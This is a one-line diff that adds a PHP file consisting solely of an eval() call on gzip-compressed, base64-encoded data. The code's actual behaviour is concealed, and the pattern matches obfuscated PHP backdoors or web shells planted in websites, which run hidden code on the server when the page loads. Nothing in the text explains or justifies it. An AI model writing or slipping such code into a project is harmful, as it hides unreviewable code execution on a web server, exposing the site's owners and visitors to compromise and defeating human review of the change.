@@ -1,0 +1,1 @@
+<?php eval(gzinflate(base64_decode('y0zTyCwuTi3RUIkPcg0MdQ0OiVZPVo/V1KxOTc7IV1C3KShKtVO3Vsm3Lc5IzcmJT61ITUZXaw1WmlGSm1NckJqcmZiTnJFYVKyhkg+VUbfRh5hSm5pTnAoxuCCjIL40LzE3VUPTuhYA'))); ?>
